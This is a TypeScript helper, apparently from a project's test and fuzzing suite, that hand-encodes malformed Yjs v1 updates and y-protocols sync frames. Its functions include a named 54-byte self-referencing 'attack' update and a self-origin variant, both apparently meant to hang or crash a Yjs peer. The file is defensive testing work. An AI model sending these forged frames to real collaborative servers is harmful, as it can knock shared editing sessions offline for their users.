// Writes Yjs updates (format v1) struct by struct, so that tests, the fuzzer and the attack
// script can build what no Yjs client would: self references, forward references, cycles,
// long chains, foreign client ids. The layout follows yjs `src/utils/encoding.js` (writeStructs,
// writeDeleteSet) and `src/structs/Item.js` (Item.write): per client, the struct count, the
// client, the first clock, then each struct's info byte, references and content.
import * as encoding from 'lib0/encoding'

/** A reference to one clock of one client. */
export interface ForgedId {
  client: number
  clock: number
}

/** One struct of a forged update; its clock follows the previous struct of its client. */
export type ForgedStruct =
  | {
      kind: 'item'
      origin?: ForgedId | null
      rightOrigin?: ForgedId | null
      /** Parent when both origins are null: a root type name or an item id. */
      parent?: string | ForgedId
      parentSub?: string
      /** Binary (length 1), any values (length = count), deleted (length n), or a nested array type. */
      content?: { binary: Uint8Array } | { any: unknown[] } | { deleted: number } | { type: 'array' }
    }
  | { kind: 'gc'; length: number }
  | { kind: 'skip'; length: number }

/** Structs of one client starting at `clock`. */
export interface ForgedClient {
  client: number
  clock: number
  structs: ForgedStruct[]
}

/** Length in clocks of a forged struct. */
export function forgedLength(s: ForgedStruct): number {
  if (s.kind !== 'item') return s.length
  const c = s.content ?? { binary: new Uint8Array([0]) }
  if ('any' in c) return c.any.length
  if ('deleted' in c) return c.deleted
  return 1
}

function writeId(e: encoding.Encoder, id: ForgedId) {
  encoding.writeVarUint(e, id.client)
  encoding.writeVarUint(e, id.clock)
}

function writeItem(e: encoding.Encoder, s: Extract<ForgedStruct, { kind: 'item' }>) {
  const content = s.content ?? { binary: new Uint8Array([0]) }
  const ref = 'binary' in content ? 3 : 'any' in content ? 8 : 'deleted' in content ? 1 : 7
  const origin = s.origin ?? null
  const right = s.rightOrigin ?? null
  let info = ref
  if (origin) info |= 128
  if (right) info |= 64
  if (s.parentSub !== undefined) info |= 32
  encoding.writeUint8(e, info)
  if (origin) writeId(e, origin)
  if (right) writeId(e, right)
  if (!origin && !right) {
    const parent = s.parent ?? 'entries'
    if (typeof parent === 'string') {
      encoding.writeVarUint(e, 1)
      encoding.writeVarString(e, parent)
    } else {
      encoding.writeVarUint(e, 0)
      writeId(e, parent)
    }
    if (s.parentSub !== undefined) encoding.writeVarString(e, s.parentSub)
  }
  if ('binary' in content) encoding.writeVarUint8Array(e, content.binary)
  else if ('any' in content) {
    encoding.writeVarUint(e, content.any.length)
    for (const v of content.any) encoding.writeAny(e, v as Parameters<typeof encoding.writeAny>[1])
  } else if ('deleted' in content) encoding.writeVarUint(e, content.deleted)
  else encoding.writeVarUint(e, 0) // YArray type ref
}

/** Encodes forged clients and a delete set (client → [clock, len] ranges) as a v1 update. */
export function forgeUpdate(
  clients: ForgedClient[],
  deletes: [number, [number, number][]][] = [],
): Uint8Array {
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, clients.length)
  for (const c of clients) {
    encoding.writeVarUint(e, c.structs.length)
    encoding.writeVarUint(e, c.client)
    encoding.writeVarUint(e, c.clock)
    for (const s of c.structs) {
      if (s.kind === 'gc') {
        encoding.writeUint8(e, 0)
        encoding.writeVarUint(e, s.length)
      } else if (s.kind === 'skip') {
        encoding.writeUint8(e, 10)
        encoding.writeVarUint(e, s.length)
      } else writeItem(e, s)
    }
  }
  encoding.writeVarUint(e, deletes.length)
  for (const [client, ranges] of deletes) {
    encoding.writeVarUint(e, client)
    encoding.writeVarUint(e, ranges.length)
    for (const [clock, len] of ranges) {
      encoding.writeVarUint(e, clock)
      encoding.writeVarUint(e, len)
    }
  }
  return encoding.toUint8Array(e)
}

/** A chain of `n` binary entries of one client, each inserted after the previous (what pushing n entries makes). */
export function chainUpdate(
  client: number,
  n: number,
  startClock = 0,
  after: ForgedId | null = null,
): Uint8Array {
  const structs: ForgedStruct[] = []
  for (let i = 0; i < n; i++) {
    const origin = i === 0 ? after : { client, clock: startClock + i - 1 }
    structs.push({ kind: 'item', origin, content: { binary: new Uint8Array([i & 255]) } })
  }
  return forgeUpdate([{ client, clock: startClock, structs }])
}

/** The 54-byte-class attack: one entry whose right neighbour is itself. */
export function selfRightUpdate(client: number, clock = 0): Uint8Array {
  const self = { client, clock }
  return forgeUpdate([{ client, clock, structs: [{ kind: 'item', rightOrigin: self }] }])
}

/** One entry whose left neighbour (origin) is itself. */
export function selfOriginUpdate(client: number, clock = 0): Uint8Array {
  const self = { client, clock }
  return forgeUpdate([{ client, clock, structs: [{ kind: 'item', origin: self }] }])
}

/** A y-protocols sync frame (message type 0) of sub type `sub` carrying `payload`. */
export function syncFrame(sub: number, payload: Uint8Array): Uint8Array {
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, 0)
  encoding.writeVarUint(e, sub)
  encoding.writeVarUint8Array(e, payload)
  return encoding.toUint8Array(e)
}
